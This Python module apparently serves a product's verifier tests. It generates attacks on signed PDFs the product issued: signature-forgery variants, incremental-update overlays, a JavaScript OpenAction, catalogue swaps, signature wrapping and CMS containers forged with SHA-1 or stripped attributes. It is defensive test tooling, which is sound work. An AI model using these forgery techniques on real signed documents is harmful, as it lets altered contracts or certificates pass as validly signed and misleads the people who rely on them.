"""Attacks on signed PDF files, made with our own code on documents that the product issued.

The classes are those of the literature: universal signature forgery, incremental saving and
signature wrapping (Mladenov et al., CCS 2019), shadow attacks (NDSS 2021), attacks on
certification (IEEE S&P 2021), and on the structure inside (CMS).
"""

import hashlib
import re
from collections.abc import Callable
from datetime import UTC, datetime

from asn1crypto import algos, cms, core, x509
from cryptography.hazmat.primitives.asymmetric.ec import ECDSA
from cryptography.hazmat.primitives.hashes import SHA1, SHA256
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.sign.general import as_signing_certificate_v2, simple_cms_attribute

from services.documents.rendering.incremental import ExactWriter
from services.documents.signing.certificates import Credential, as_asn1
from services.documents.verification.raw import RawSignature, read_raw

EVIL = b"q 1 0 0 rg 60 300 400 200 re f Q"
Attack = Callable[[bytes], bytes]


def last_signature(pdf: bytes) -> RawSignature:
    return max(read_raw(pdf).signatures, key=lambda item: item.end)


def appended(pdf: bytes, objects: dict[int, bytes], *, with_table: bool = True) -> bytes:
    """Append objects by hand, as an attacker does who respects no policy."""
    out, places = bytearray(pdf), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not with_table:
        return bytes(out)
    start = len(out)
    out += b"xref\n"
    for number, place in sorted(places.items()):
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    return bytes(out) + trailer_after(pdf, start)


def trailer_after(pdf: bytes, start: int) -> bytes:
    root = re.findall(rb"/Root (\d+) 0 R", pdf)[-1]
    previous = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    return b"trailer\n<</Size 9999/Root %s 0 R/Prev %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        root,
        previous,
        start,
    )


def redefine(change: Callable[[bytes], bytes]) -> Attack:
    """Return an attack that writes the last signature's dictionary anew, broken."""

    def attack(pdf: bytes) -> bytes:
        found = last_signature(pdf).found
        body = pdf[found.start : found.end].split(b"obj", 1)[1]
        return appended(pdf, {found.number: change(body.strip())})

    return attack


def _without(key: bytes) -> Callable[[bytes], bytes]:
    return lambda body: re.sub(rb"/" + key + rb"\s*(<[^<>]*>|\[[^\]]*\]|/[A-Za-z.]+)", b"", body)


def _with(key: bytes, value: bytes) -> Callable[[bytes], bytes]:
    return lambda body: re.sub(
        rb"/" + key + rb"\s*(<[^<>]*>|\[[^\]]*\]|/[A-Za-z.]+)", b"/" + key + b" " + value, body
    )


FORGERIES: dict[str, Attack] = {
    "contents removed": redefine(_without(b"Contents")),
    "contents null": redefine(_with(b"Contents", b"null")),
    "contents empty": redefine(_with(b"Contents", b"<>")),
    "contents zero": redefine(_with(b"Contents", b"<" + b"00" * 64 + b">")),
    "range removed": redefine(_without(b"ByteRange")),
    "range null": redefine(_with(b"ByteRange", b"null")),
    "range empty": redefine(_with(b"ByteRange", b"[]")),
    "range of zeros": redefine(_with(b"ByteRange", b"[0 0 0 0]")),
    "range negative": redefine(_with(b"ByteRange", b"[0 10 -5 20]")),
    "range not from the start": redefine(_with(b"ByteRange", b"[5 10 40 20]")),
    "range of one part": redefine(_with(b"ByteRange", b"[0 10]")),
    "range of two gaps": redefine(_with(b"ByteRange", b"[0 10 40 20 80 10]")),
    "range beyond the file": redefine(_with(b"ByteRange", b"[0 10 40 99999999]")),
    "sub filter removed": redefine(_without(b"SubFilter")),
    "sub filter unknown": redefine(_with(b"SubFilter", b"/adbe.nothing")),
    "filter removed": redefine(_without(b"Filter")),
    "filter unknown": redefine(_with(b"Filter", b"/Nothing")),
    "type removed": redefine(_without(b"Type")),
    "type another": redefine(_with(b"Type", b"/Page")),
}
"""Universal signature forgery."""


def change_page(pdf: bytes) -> bytes:
    """Paint over the first page."""
    writer = ExactWriter(pdf)
    stream = writer.add_object(generic.StreamObject(stream_data=EVIL))
    page = writer.page_reference(0).get_object()
    old = page.raw_get("/Contents")
    page["/Contents"] = generic.ArrayObject([old, stream])
    writer.mark_update(writer.page_reference(0))
    return writer.result()


def annotate(pdf: bytes) -> bytes:
    """Lay a remark over the first page (evil annotation attack)."""
    writer = ExactWriter(pdf)
    _add_annotation(writer, {"/Subtype": pdf_name("/FreeText")})
    return writer.result()


def add_signature_field(pdf: bytes) -> bytes:
    """Lay an empty, visible signature field over the first page (sneaky signature attack)."""
    writer = ExactWriter(pdf)
    field = {"/Subtype": pdf_name("/Widget"), "/FT": pdf_name("/Sig")}
    reference = _add_annotation(writer, {**field, "/T": generic.pdf_string("Approved")})
    form = writer.root["/AcroForm"]
    form["/Fields"].append(reference)
    writer.update_container(form["/Fields"])
    writer.update_container(form)
    return writer.result()


def _add_annotation(writer: ExactWriter, more: dict[str, generic.PdfObject]) -> object:
    look = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
        },
        stream_data=EVIL,
    )
    rectangle = generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842)))
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Rect"): rectangle,
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)}),
            **{pdf_name(key): value for key, value in more.items()},
        }
    )
    reference = writer.add_object(annotation)
    page = writer.page_reference(0).get_object()
    annotations = page["/Annots"] if "/Annots" in page else generic.ArrayObject()
    page["/Annots"] = generic.ArrayObject([*annotations, reference])
    writer.mark_update(writer.page_reference(0))
    return reference


def swap_appearance(pdf: bytes) -> bytes:
    """Change how a field looks that is signed already."""
    writer = ExactWriter(pdf)
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    look = field["/AP"]["/N"]
    look._data = EVIL
    look._encoded_data = None
    writer.update_container(look)
    return writer.result()


def add_page(pdf: bytes) -> bytes:
    writer = ExactWriter(pdf)
    pages = writer.root["/Pages"]
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/Parent"): writer.root.raw_get("/Pages"),
            pdf_name("/MediaBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
        }
    )
    pages["/Kids"].append(writer.add_object(page))
    pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
    writer.update_container(pages["/Kids"])
    writer.update_container(pages)
    return writer.result()


def add_script(pdf: bytes) -> bytes:
    writer = ExactWriter(pdf)
    script = generic.DictionaryObject(
        {
            pdf_name("/S"): pdf_name("/JavaScript"),
            pdf_name("/JS"): generic.pdf_string("app.alert(1)"),
        }
    )
    writer.root["/OpenAction"] = writer.add_object(script)
    writer.update_root()
    return writer.result()


def another_root(pdf: bytes) -> bytes:
    """Let the trailer name another catalogue, which an attacker wrote."""
    changed = appended(pdf, {9000: b"<</Type/Catalog/Pages 9001 0 R>>", 9001: b"<</Kids[]>>"})
    head, _, tail = changed.rpartition(b"/Root ")
    return head + b"/Root 9000" + tail[tail.index(b" ") :]


def point_elsewhere(pdf: bytes) -> bytes:
    """Append only a table that makes a page's content another object (hide and replace)."""
    raw = read_raw(pdf)
    page = next(item for item in raw.objects if item.is_a("Page"))
    number = page.value["Contents"].number
    other = next(item for item in raw.objects if item.stream and item.number != number)
    start = len(pdf)
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, other.start)
    return pdf + table + trailer_after(pdf, start)


def set_free(pdf: bytes) -> bytes:
    """Append only a table that drops an object (hide)."""
    page = next(item for item in read_raw(pdf).objects if item.is_a("Page"))
    table = b"xref\n%d 1\n0000000000 00001 f \n" % page.value["Contents"].number
    return pdf + table + trailer_after(pdf, len(pdf))


SAVINGS: dict[str, Attack] = {
    "page painted over": change_page,
    "remark laid over": annotate,
    "field laid over": add_signature_field,
    "signed look swapped": swap_appearance,
    "page added": add_page,
    "script added": add_script,
    "another catalogue": another_root,
    "number points elsewhere": point_elsewhere,
    "object dropped": set_free,
    "objects without a table": lambda pdf: appended(pdf, {9000: b"<<>>"}, with_table=False),
    "object with a table": lambda pdf: appended(pdf, {9000: b"(harmless)"}),
    "end without a table": lambda pdf: pdf + b"9000 0 obj\n(x)\nendobj\n%%EOF\n",
    "second end": lambda pdf: pdf + b"%%EOF\n",
    "junk": lambda pdf: pdf + b"junk",
    "a comment": lambda pdf: pdf + b"% only a comment\n",
    "copied signature": lambda pdf: appended(pdf, {9000: _body(pdf)}),
    "hybrid table": lambda pdf: appended(pdf, {9000: b"()"}).replace(
        b"/Size 9999", b"/Size 9999/XRefStm 15"
    ),
    "header moved": lambda pdf: b"\n" + pdf,
}
"""Incremental saving, shadow and certification attacks."""


def _body(pdf: bytes) -> bytes:
    found = last_signature(pdf).found
    return pdf[found.start : found.end].split(b"obj", 1)[1].strip()


def widen_gap(pdf: bytes) -> bytes:
    """Put an object behind the signature's string, and a dictionary that says so (wrapping)."""
    signature = last_signature(pdf)
    start, end = signature.gap
    body = _body(pdf)
    number = signature.found.number
    evil = b"\n9000 0 obj\n(evil)\nendobj\n"
    changed = re.sub(
        rb"/ByteRange\s*\[[^\]]*\]",
        b"/ByteRange [0 %d %d %d]" % (start, end + len(evil), signature.end - end),
        body,
    )
    wrapped = pdf[:end] + evil + pdf[end:]
    return appended(wrapped, {number: changed})


def pad_contents(pdf: bytes) -> bytes:
    """Hide data behind the CMS structure, in the padding that nobody signs."""
    _, end = last_signature(pdf).gap
    return pdf[: end - 33] + b"deadbeef" * 4 + pdf[end - 1 :]


def move_second_part(pdf: bytes) -> bytes:
    """Insert something between the signature and the bytes signed after it."""
    _, end = last_signature(pdf).gap
    return pdf[:end] + b" % evil\n" + pdf[end:]


WRAPPINGS: dict[str, Attack] = {
    "gap widened": widen_gap,
    "data in the padding": pad_contents,
    "second part moved": move_second_part,
}
"""Signature wrapping."""


def with_container(pdf: bytes, container: bytes) -> bytes:
    """Put another CMS structure where the last signature has its own."""
    start, end = last_signature(pdf).gap
    digits = container.hex().encode().ljust(end - start - 2, b"0")
    return pdf[: start + 1] + digits + pdf[end - 1 :]


class Forger:
    """Makes CMS structures by a key that the verifier believes, wrong in one place each."""

    def __init__(self, credential: Credential, chain: list[x509.Certificate]) -> None:
        self._key, self._chain = credential.key, chain
        self._certificate = as_asn1(credential.certificate)

    def attributes(self, pdf: bytes, digest: str = "sha256") -> list[cms.CMSAttribute]:
        first, second = last_signature(pdf).signed_bytes(pdf)
        made = hashlib.new(digest, bytes(first) + bytes(second), usedforsecurity=False).digest()
        return [
            simple_cms_attribute("content_type", "data"),
            simple_cms_attribute("message_digest", made),
            simple_cms_attribute(
                "signing_certificate_v2", as_signing_certificate_v2(self._certificate)
            ),
            simple_cms_attribute(
                "signing_time",
                cms.Time({"utc_time": core.UTCTime(datetime(2026, 4, 3, tzinfo=UTC))}),
            ),
        ]

    def good(self, pdf: bytes) -> bytes:
        return with_container(pdf, self.signed(self.attributes(pdf)))

    def twice(self, pdf: bytes) -> bytes:
        return with_container(pdf, self.signed(self.attributes(pdf), copies=2))

    def repeated_attribute(self, pdf: bytes) -> bytes:
        attributes = self.attributes(pdf)
        return with_container(pdf, self.signed([*attributes, attributes[1]]))

    def without(self, name: str) -> Attack:
        def attack(pdf: bytes) -> bytes:
            kept = [item for item in self.attributes(pdf) if item["type"].native != name]
            return with_container(pdf, self.signed(kept))

        return attack

    def other_certificate(self, pdf: bytes) -> bytes:
        kept = [
            item for item in self.attributes(pdf) if item["type"].native != "signing_certificate_v2"
        ]
        other = as_signing_certificate_v2(self._chain[0])
        attribute = simple_cms_attribute("signing_certificate_v2", other)
        return with_container(pdf, self.signed([*kept, attribute]))

    def weak(self, pdf: bytes) -> bytes:
        return with_container(pdf, self.signed(self.attributes(pdf, "sha1"), digest="sha1"))

    def embedded(self, pdf: bytes) -> bytes:
        return with_container(pdf, self.signed(self.attributes(pdf), content=b"another document"))

    def stripped(self, pdf: bytes) -> bytes:
        """Strip the signed attributes; the signature then speaks of other bytes."""
        return with_container(pdf, self.signed(self.attributes(pdf), strips=True))

    def nobody(self, pdf: bytes) -> bytes:
        return with_container(pdf, self.signed(self.attributes(pdf), copies=0))

    def signed(
        self,
        attributes: list[cms.CMSAttribute],
        *,
        digest: str = "sha256",
        copies: int = 1,
        content: bytes | None = None,
        strips: bool = False,
    ) -> bytes:
        encoded = cms.CMSAttributes(attributes)
        kind = SHA1() if digest == "sha1" else SHA256()  # noqa: S303 - a weak one on purpose
        algorithm = algos.DigestAlgorithm({"algorithm": digest})
        signer = {
            "version": "v1",
            "sid": cms.SignerIdentifier(
                {
                    "issuer_and_serial_number": cms.IssuerAndSerialNumber(
                        {
                            "issuer": self._certificate.issuer,
                            "serial_number": self._certificate.serial_number,
                        }
                    )
                }
            ),
            "digest_algorithm": algorithm,
            "signature_algorithm": algos.SignedDigestAlgorithm({"algorithm": f"{digest}_ecdsa"}),
            "signature": self._key.sign(encoded.dump(), ECDSA(kind)),
        }
        if not strips:
            signer["signed_attrs"] = encoded
        data = cms.SignedData(
            {
                "version": "v1",
                "digest_algorithms": cms.DigestAlgorithms((algorithm,)),
                "encap_content_info": {"content_type": "data", "content": content},
                "certificates": [self._certificate, *self._chain],
                "signer_infos": [cms.SignerInfo(signer)] * copies,
            }
        )
        return bytes(cms.ContentInfo({"content_type": "signed_data", "content": data}).dump())
